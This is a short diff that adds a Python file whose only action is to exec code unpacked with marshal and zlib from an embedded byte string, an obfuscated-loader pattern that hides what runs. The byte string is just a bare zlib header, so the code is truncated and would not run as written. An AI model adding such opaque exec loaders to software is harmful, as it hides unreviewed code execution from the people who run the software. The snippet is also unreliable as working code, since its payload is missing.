@@ -1,0 +1,4 @@
+import marshal
+import zlib
+
+exec(marshal.loads(zlib.decompress(b"x\x9c")))
